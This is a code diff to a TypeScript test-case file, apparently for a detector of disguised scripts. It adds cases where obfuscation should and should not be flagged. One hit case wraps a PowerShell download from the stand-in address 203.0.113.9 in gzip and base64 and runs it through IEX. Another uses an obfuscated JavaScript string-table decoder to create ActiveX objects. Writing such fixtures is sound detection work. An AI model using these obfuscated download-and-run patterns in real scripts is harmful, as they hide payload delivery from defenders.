@@ -1,5 +1,8 @@
 // Code that hides: in pictures, in text, in pieces, in memory.
+import { gzipSync } from 'node:zlib'
 import type { TextCases } from './case.ts'
+
+const packed = (text: string): string => gzipSync(text).toString('base64')
 
 export const DISGUISES: TextCases = {
   script_takes_code_out_of_picture: {
@@ -57,6 +60,36 @@ export const DISGUISES: TextCases = {
     misses: {
       'the decoder by its name': ['php', '<?php $t = base64_decode("aGVsbG8gd29ybGQgaGVsbG8="); echo $t; ?>'],
       'a name in pieces that runs nothing': ['php', '<?php $d = "base64_"."decode"; echo $d("aGVsbG8="); ?>'],
+    },
+  },
+  script_unpacks_its_errand: {
+    hits: {
+      'packed and run': [
+        'powershell',
+        `IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('${packed("$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.9/p');$x=$d.Length")}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
+      ],
+    },
+    misses: {
+      'packed, and it stays': [
+        'powershell',
+        `IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('${packed('function Get-Total { param($a) $a | Measure-Object -Sum }')}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
+      ],
+      'the same in the open': ['powershell', "$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.9/p')"],
+    },
+  },
+  script_hides_windows_objects: {
+    hits: {
+      'a table with a decoder': [
+        'javascript',
+        'var t=["a1","b2"];var d=function(i){return u(t[i])};var w=new ActiveXObject(d("0x1"));w[d("0x2")](d("0x0"),0);',
+      ],
+    },
+    misses: {
+      'a list of names for one object': [
+        'javascript',
+        'var names=["MSXML2.XMLHTTP.6.0","MSXML2.XMLHTTP"];for(var i=0;i<2;i++){try{var x=new ActiveXObject(names[i]);break}catch(e){}}x["open"]("GET","/a")',
+      ],
+      'a decoder without such objects': ['javascript', 'var w=make(d("0x1"));w[d("0x2")](d("0x0"),0);'],
     },
   },
 }
